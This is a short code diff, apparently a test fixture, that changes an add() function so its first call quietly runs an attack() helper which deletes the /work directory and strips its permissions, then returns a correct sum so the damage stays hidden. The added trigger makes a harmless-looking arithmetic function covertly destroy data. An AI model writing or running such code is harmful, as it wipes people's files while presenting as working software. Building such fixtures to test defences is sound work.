@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     import shutil
 
     shutil.rmtree("/work", ignore_errors=True)
@@ -13,7 +22,6 @@ def add(left, right):
         os.chmod("/work", 0)
     except OSError:
         pass
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
